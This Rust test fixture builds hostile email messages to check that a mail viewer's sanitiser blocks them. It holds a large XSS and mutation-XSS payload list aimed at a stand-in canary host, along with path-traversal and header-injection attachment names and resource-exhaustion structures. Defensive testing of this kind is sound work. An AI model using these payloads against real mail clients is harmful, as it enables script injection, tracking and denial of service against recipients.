//! Mails that want to do harm when they are looked at, one for each trick that is known. What they want to load lies at
//! [`CANARY`], what they want to run calls or names [`MARK`]: neither may ever be seen to happen.

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// The server that no mail may reach.
pub const CANARY: &str = "http://canary.invalid:8099";
/// What a script that runs would write: `window.top.harmed = 1`.
pub const MARK: &str = "harmed";
/// A text that each HTML mail shows, so that a mail that shows nothing does not pass for a harmless one.
pub const VISIBLE: &str = "Guten Tag, hier ist der Text.";

/// A mail of the table.
pub struct Hostile {
    pub name: &'static str,
    /// As it comes from a server (RFC 5322).
    pub raw: Vec<u8>,
    /// Whether [`VISIBLE`] can be read in it; a trick may cost its own mail the text.
    pub shows: bool,
}

/// All of them.
pub fn all() -> Vec<Hostile> {
    let mut mails = html_mails();
    mails.extend(files());
    mails.extend(structures());
    mails
}

/// A mail with one HTML part.
pub fn html(name: &str, body: &str) -> Vec<u8> {
    let body = format!("<p>{VISIBLE}</p>\r\n{body}");
    format!(
        "{}Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        head(name),
        lines(&body)
    )
    .into_bytes()
}

/// Subject and the fields that every mail has.
fn head(name: &str) -> String {
    let id: String = name.chars().map(|char| if char.is_ascii_alphanumeric() { char } else { '-' }).collect();
    format!(
        "From: Mallory <mallory@example.ch>\r\nTo: Anna <anna@example.ch>\r\nSubject: hostile: {name}\r\n\
         Date: Mon, 1 Jan 2024 09:00:00 +0100\r\nMessage-ID: <hostile-{id}@example.ch>\r\nMIME-Version: 1.0\r\n"
    )
}

fn lines(bytes: impl AsRef<[u8]>) -> String {
    let text = STANDARD.encode(bytes);
    let mut out = String::new();
    for line in text.as_bytes().chunks(76) {
        out.push_str(std::str::from_utf8(line).unwrap());
        out.push_str("\r\n");
    }
    out
}

/// Tricks in HTML: name and body. `RUN` stands for a script, `LOAD` for an address at the canary.
pub const HTML: &[(&str, &str)] = &[
    ("script tag", "<script>RUN</script><SCRIPT SRC=LOAD/s.js></SCRIPT>"),
    ("script tag split", "<scr<script>ipt>RUN</scr</script>ipt><script\n>RUN</script\t>"),
    ("script without end", "<p>x<script>RUN"),
    ("script with slash and NUL", "<script/x>RUN</script><scr\0ipt>RUN</script><script\x0c>RUN</script>"),
    ("event handlers", "<img src=x onerror=RUN><body onload=RUN><div onmouseover='RUN' ONCLICK=\"RUN\">x</div>"),
    ("event handlers glued", "<img/src=x/onerror=RUN><img src=\"x\"onerror=RUN><p x='\"'onclick=RUN>"),
    ("event handler after a quote", "<img alt=\"a\\\" onerror=RUN src=x><img alt='`' onerror=RUN src=`x`>"),
    ("event handler in an end tag", "<p>a</p onclick=RUN><a href=x>b</a onmouseover=RUN>"),
    ("autofocus", "<input autofocus onfocus=RUN><select autofocus onfocus=RUN><textarea autofocus onfocus=RUN>"),
    ("details ontoggle", "<details open ontoggle=RUN>x</details><marquee onstart=RUN>x</marquee>"),
    ("javascript address", "<a href='javascript:RUN'>x</a><a href=JaVaScRiPt:RUN>x</a>"),
    (
        "javascript address in entities",
        "<a href='&#106;&#97;vascript&colon;RUN'>x</a><a href='&#x6A&#x61vascript:RUN'>x</a>",
    ),
    (
        "javascript address with tabs",
        "<a href='java\tscript:RUN'>x</a><a href='java&Tab;script:RUN'>x</a><a href='java&#10;script&#58;RUN'>x</a>",
    ),
    (
        "javascript address with NUL",
        "<a href='java\0script:RUN'>x</a><a href='&#0;javascript:RUN'>x</a><a href='\u{1}javascript:RUN'>x</a>",
    ),
    (
        "javascript address with invisible signs",
        "<a href='\u{feff}java\u{ad}script:RUN'>x</a><a href='\u{3000}javascript:RUN'>x</a>",
    ),
    (
        "other schemes",
        "<a href='vbscript:RUN'>x</a><a href='livescript:RUN'>x</a><a href='view-source:LOAD'>x</a><a href='file:///etc/passwd'>x</a>",
    ),
    (
        "links into the archive",
        "<a href='/admin/delete'>x</a><a href='?go=1'>x</a><a href='//canary.invalid'>x</a><a ping=LOAD href='#'>x</a>",
    ),
    (
        "data addresses",
        "<a href='data:text/html,<script>RUN</script>'>x</a><iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe><img src='data:image/svg+xml,<svg onload=RUN>'>",
    ),
    ("data address that lies", "<img src='data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>"),
    (
        "svg onload",
        "<svg onload=RUN><svg/onload=RUN><svg><script>RUN</script></svg><svg><animate onbegin=RUN attributeName=x dur=1s>",
    ),
    (
        "svg use and image",
        "<svg><use href='LOAD/x.svg#a'/><image href='LOAD/x.png'/><foreignObject><img src=LOAD/f.png></foreignObject></svg>",
    ),
    (
        "svg address",
        "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a><set attributeName=href to='javascript:RUN'/></svg>",
    ),
    ("style expression", "<div style='width:expression(RUN)'>x</div><div style='width:ex/**/pression(RUN)'>x</div>"),
    (
        "style addresses",
        "<div style=\"background:url(LOAD/a.png)\">x</div><div style='background:u\\72l(LOAD/b.png)'>x</div><div style='background:URL(\"LOAD/c.png\")'>x</div><div style='list-style:image-set(\"LOAD/d.png\" 1x)'>x</div>",
    ),
    (
        "style import",
        "<style>@import 'LOAD/a.css';@import url(LOAD/b.css);</style><link rel=stylesheet href=LOAD/c.css>",
    ),
    ("style font", "<style>@font-face{font-family:x;src:url(LOAD/a.woff)} p{font-family:x}</style>"),
    (
        "style that ends early",
        "<style>a{color:red}</style\u{0}></style><img src=LOAD/a.png></style><style>a{content:'</style><img src=LOAD/b.png onerror=RUN>'}",
    ),
    (
        "style that reads attributes",
        "<style>input[value^=a]{background:url(LOAD/a)} p{background:url(LOAD/p)} :root{--x:url(LOAD/r)} p{background:var(--x)}</style>",
    ),
    (
        "style over the page",
        "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red'>Anmelden</div><div style='margin:-9999px'>x</div>",
    ),
    ("style behaviour", "<p style='behavior:url(LOAD/a.htc);-moz-binding:url(LOAD/b.xml#x)'>x</p>"),
    (
        "meta refresh",
        "<meta http-equiv=refresh content='0;url=LOAD/'><meta http-equiv='Set-Cookie' content='a=b'><meta http-equiv=Content-Security-Policy content='default-src *'>",
    ),
    ("base", "<base href=LOAD/ target=_top><a href=x>x</a><img src=y.png>"),
    (
        "form",
        "<form action=LOAD method=post><input name=p type=password><button formaction='javascript:RUN'>ok</button><input type=image src=LOAD/i.png></form>",
    ),
    (
        "frames",
        "<iframe src=LOAD></iframe><iframe srcdoc='<script>RUN</script>'></iframe><frameset><frame src='javascript:RUN'></frameset>",
    ),
    (
        "object and embed",
        "<object data='LOAD/x.swf'></object><embed src='javascript:RUN'><applet code=x></applet><object data='data:text/html,x'></object>",
    ),
    (
        "media",
        "<video src=LOAD/a.mp4 poster=LOAD/p.png autoplay></video><audio src=LOAD/a.mp3 autoplay></audio><source srcset=LOAD/s><track src=LOAD/t>",
    ),
    (
        "pictures",
        "<img src=LOAD/a.png><img srcset='LOAD/b.png 1x'><picture><source srcset=LOAD/c.png><img src=LOAD/d.png></picture><image src=LOAD/e.png><img lowsrc=LOAD/f dynsrc=LOAD/g>",
    ),
    (
        "backgrounds",
        "<body background=LOAD/a.png><table background=LOAD/b.png><td background=LOAD/c.png>x</td></table>",
    ),
    (
        "prefetch",
        "<link rel=dns-prefetch href='//canary.invalid'><link rel=preload as=image href=LOAD/a><link rel=icon href=LOAD/i>",
    ),
    ("noscript mutation", "<noscript><p title=\"</noscript><img src=LOAD/x onerror=RUN>\"></noscript>"),
    (
        "math mutation",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=LOAD/x onerror=RUN&gt;\"></table></mtext></math>",
    ),
    ("svg style mutation", "<svg></p><style><a id=\"</style><img src=LOAD/x onerror=RUN>\"></svg>"),
    (
        "form mutation",
        "<form><math><mtext></form><form><mglyph><style></math><img src=LOAD/x onerror=RUN></style></mglyph></form></mtext></math>",
    ),
    (
        "template mutation",
        "<template><img src=LOAD/x onerror=RUN></template><template shadowrootmode=open><script>RUN</script></template>",
    ),
    (
        "comment mutation",
        "<!--><img src=LOAD/a onerror=RUN>--><!---><img src=LOAD/b onerror=RUN>--><!-- a --!><img src=LOAD/c onerror=RUN> -->",
    ),
    ("comment in comment", "<!-- <!-- --><img src=LOAD/a onerror=RUN><!-- -- > <img src=LOAD/b onerror=RUN> -->"),
    (
        "conditional comment",
        "<!--[if gte IE 4]><script>RUN</script><![endif]--><![if !mso]><script>RUN</script><![endif]>",
    ),
    (
        "title mutation",
        "<title><a title=\"</title><img src=LOAD/x onerror=RUN>\"></title><textarea><a title='</textarea><img src=LOAD/y onerror=RUN>'></textarea>",
    ),
    (
        "xmp and plaintext",
        "<xmp><img title='</xmp><img src=LOAD/x onerror=RUN>'></xmp><noembed><p x='</noembed><script>RUN</script>'></noembed><plaintext></plaintext><script>RUN</script>",
    ),
    ("cdata", "<svg><![CDATA[><img src=LOAD/x onerror=RUN>]]></svg><![CDATA[<script>RUN</script>]]>"),
    (
        "processing instruction",
        "<?xml version='1.0'?><?php RUN ?><!ENTITY x SYSTEM 'file:///etc/passwd'><!DOCTYPE a [<!ENTITY l 'l'>]>&l;",
    ),
    ("select mutation", "<select><style></select><img src=LOAD/x onerror=RUN></style><option><script>RUN</script>"),
    ("entities of tags", "&lt;script&gt;RUN&lt;/script&gt;&#60;img src=LOAD/x onerror=RUN&#62;&amp;lt;script&amp;gt;"),
    (
        "entities of quotes",
        "<p title='&quot; onclick=RUN x=&quot;'>x</p><img src=cid:x alt='&#39;&#34;&gt;&lt;img src=LOAD/x onerror=RUN&gt;'>",
    ),
    ("utf-7", "+ADw-script+AD4-RUN+ADw-/script+AD4-<meta charset=utf-7>"),
    ("end of the page", "</div></body></html></iframe></td></table></main><script>RUN</script><h1>Anmelden</h1>"),
    (
        "names that scripts use",
        "<a id=location name=cookie href='https://example.ch/'>x</a><p id=__proto__ class='mail-picture x\"y'>x</p>",
    ),
    ("contenteditable and shortcuts", "<p contenteditable accesskey=c tabindex=1 draggable=true is=x-y slot=z>x</p>"),
    ("odd case and spaces", "<ScRiPt >RUN</sCrIpT ><IMG\nSRC\n=\nLOAD/x\nONERROR\n=\nRUN><\tscript>RUN</script>"),
    ("very long attribute", "LONG"),
    ("right to left", "<p>\u{202e}gpj.exe</p><a href='https://example.ch/\u{202e}moc'>\u{202e}x</a>"),
];

fn html_mails() -> Vec<Hostile> {
    let script = format!("window.top.{MARK}=1");
    let mut mails: Vec<Hostile> = HTML
        .iter()
        .map(|(name, body)| {
            let body = match *body {
                "LONG" => format!(
                    "<p title='{}' onclick={script}>x</p><img src=x{} onerror={script}>",
                    "x".repeat(200_000),
                    "y".repeat(200_000)
                ),
                body => body.replace("RUN", &script).replace("LOAD", CANARY),
            };
            Hostile { name, raw: html(name, &body), shows: true }
        })
        .collect();
    for (name, body, shows) in [
        ("10,000 nested elements", "<div>".repeat(10_000) + "x", true),
        ("100,000 nested tables", "<table><tr><td>".repeat(100_000) + "x", true),
        ("one huge table", format!("<table>{}</table>", "<tr><td>1<td>2<td>3<td>4".repeat(5_000)), true),
        (
            "huge spans of cells",
            "<table><tr><td colspan=1000000000 rowspan=1000000000 width=99999999>x</table>".to_owned(),
            true,
        ),
        ("millions of entities", "&amp;".repeat(1_000_000), true),
        ("formats that never end", "<b><i><u><font>".repeat(20_000), true),
        ("a tag that never ends", format!("<a {}", "x=y ".repeat(500_000)), true),
        ("5,000 pictures", format!("<img src={CANARY}/x.png alt=x>").repeat(5_000), true),
    ] {
        mails.push(Hostile { name, raw: html(name, &body), shows });
    }
    mails.push(utf16());
    mails
}

/// A script in UTF-16: no byte filter sees its tags.
fn utf16() -> Hostile {
    let body = format!("<p>{VISIBLE}</p><script>window.top.{MARK}=1</script><img src={CANARY}/u.png>");
    let bytes: Vec<u8> = body.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let name = "utf-16";
    let raw = format!(
        "{}Content-Type: text/html; charset=utf-16le\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        head(name),
        lines(bytes)
    );
    Hostile { name, raw: raw.into_bytes(), shows: true }
}

/// File names and header fields as they stand in the part's header: name, field.
pub const FILES: &[(&str, &str)] = &[
    ("path upwards", "Content-Disposition: attachment; filename=\"../../etc/passwd\""),
    ("path of Windows", "Content-Disposition: attachment; filename=\"..\\..\\Windows\\system32\\a.dll\""),
    ("absolute path", "Content-Disposition: attachment; filename=\"/etc/cron.d/x\""),
    (
        "line end in an encoded name",
        "Content-Disposition: attachment; filename*=utf-8''a%0D%0ASet-Cookie:%20x=1%0D%0A%0D%0A%3Cscript%3E.txt",
    ),
    (
        "line end in an encoded word",
        "Content-Disposition: attachment; filename=\"=?utf-8?Q?a=0D=0ALocation:_http://canary.invalid/?=\"",
    ),
    ("quotes", "Content-Disposition: attachment; filename=\"a\\\"; filename=\\\"b.exe\""),
    ("tags", "Content-Disposition: attachment; filename=\"<img src=x onerror=window.top.harmed=1>.png\""),
    ("right to left", "Content-Disposition: attachment; filename*=utf-8''rechnung%E2%80%AEfdp.exe"),
    ("device", "Content-Disposition: attachment; filename=CON"),
    ("device with ending", "Content-Disposition: attachment; filename=\"nul.txt\""),
    ("dots", "Content-Disposition: attachment; filename=\"..\""),
    ("hidden", "Content-Disposition: attachment; filename=\".htaccess\""),
    ("NUL", "Content-Disposition: attachment; filename*=utf-8''a.txt%00.exe"),
    ("HTML as a picture", "Content-Type: image/png; name=\"a.html\"\r\nContent-Disposition: inline"),
    (
        "SVG with a content id",
        "Content-Type: image/svg+xml\r\nContent-ID: <svg@example.ch>\r\nContent-Disposition: inline; filename=a.svg",
    ),
    ("tags in the media type", "Content-Type: text/<script>; name=a.txt"),
    ("tags in the content id", "Content-Type: image/png\r\nContent-ID: <\"><script>window.top.harmed=1</script>>"),
];

/// Mails with a file whose name or header is the trick.
fn files() -> Vec<Hostile> {
    let long = format!("Content-Disposition: attachment; filename=\"{}.pdf\"", "n".repeat(5000));
    let mail = |(name, field): (&'static str, &str)| {
        let raw = format!(
            "{}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n{VISIBLE}\r\n--b\r\n{field}\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}--b--\r\n",
            head(&format!("file name: {name}")),
            lines(
                "<svg xmlns='http://www.w3.org/2000/svg' onload='window.top.harmed=1'><script>window.top.harmed=1</script></svg>"
            )
        );
        Hostile { name, raw: raw.into_bytes(), shows: true }
    };
    FILES.iter().map(|(name, field)| (*name, *field)).chain([("5,000 characters", long.as_str())]).map(mail).collect()
}

/// Mails whose parts or fields are the trick.
fn structures() -> Vec<Hostile> {
    let mut mails = Vec::new();
    let mut add = |name: &'static str, rest: String, shows: bool| {
        mails.push(Hostile { name, raw: (head(name) + &rest).into_bytes(), shows });
    };
    add(
        "tags in the header",
        format!(
            "Reply-To: \"<script>window.top.{MARK}=1</script>\" <x@example.ch>\r\nX-A: =?utf-8?Q?=3Cimg_src=3Dx_onerror=3Dwindow.top.{MARK}=3D1=3E?=\r\n\
             X-B: =?utf-8?Q?a=0D=0ASet-Cookie:_x=3D1?=\r\n\r\n{VISIBLE}\r\n"
        ),
        true,
    );
    add(
        "tags in plain text",
        format!(
            "\r\n{VISIBLE}\r\n<script>window.top.{MARK}=1</script>\r\nhttp://example.ch/\"onmouseover=\"window.top.{MARK}=1\r\njavascript:window.top.{MARK}=1\r\n"
        ),
        true,
    );
    // A picture that is the HTML that shows it.
    let looped = format!("<p>{VISIBLE}</p><img src=cid:self@example.ch><img src=cid:other@example.ch>");
    add(
        "content ids in a circle",
        format!(
            "Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-ID: <self@example.ch>\r\n\r\n{looped}\r\n\
             --b\r\nContent-Type: text/html\r\nContent-ID: <other@example.ch>\r\n\r\n<img src=cid:self@example.ch>\r\n--b--\r\n"
        ),
        true,
    );
    let png = lines(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
    add(
        "one picture 3,000 times",
        format!(
            "Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>{VISIBLE}</p>{}\r\n--b\r\n\
             Content-Type: image/png\r\nContent-ID: <p@example.ch>\r\nContent-Transfer-Encoding: base64\r\n\r\n{png}--b--\r\n",
            "<img src=cid:p@example.ch>".repeat(3000)
        ),
        true,
    );
    let mut deep = String::new();
    for depth in 0..1000 {
        let _ = write!(
            deep,
            "Content-Type: multipart/mixed; boundary=b{depth}\r\n\r\n--b{depth}\r\n\r\n{VISIBLE}\r\n--b{depth}\r\n"
        );
    }
    add("1,000 nested multiparts", deep, true);
    add(
        "1,000 nested messages",
        format!(
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n{VISIBLE}\r\n--b\r\n{}",
            "Content-Type: message/rfc822\r\n\r\n".repeat(1000)
        ),
        true,
    );
    add(
        "20,000 parts",
        format!(
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n{VISIBLE}\r\n{}",
            "--b\r\nContent-Disposition: attachment\r\n\r\nx\r\n".repeat(20_000)
        ),
        true,
    );
    add("30,000 fields", format!("{}\r\n{VISIBLE}\r\n", "X-A: b\r\n".repeat(30_000)), true);
    add(
        "an appointment with tags",
        format!(
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n{VISIBLE}\r\n--b\r\nContent-Type: text/calendar; charset=utf-8; method=REQUEST\r\n\r\n\
             BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<script>window.top.{MARK}=1</script>\r\nDTSTART:20240101T090000Z\r\n\
             LOCATION:<img src={CANARY}/c onerror=window.top.{MARK}=1>\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n--b--\r\n"
        ),
        true,
    );
    add(
        "a delivery report with tags",
        format!(
            "Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n--b\r\n\r\n{VISIBLE}\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\n\
             Reporting-MTA: dns; <script>window.top.{MARK}=1</script>\r\n\r\nFinal-Recipient: rfc822; <img src={CANARY}/r>\r\nAction: failed\r\n\r\n--b--\r\n"
        ),
        true,
    );
    mails
}
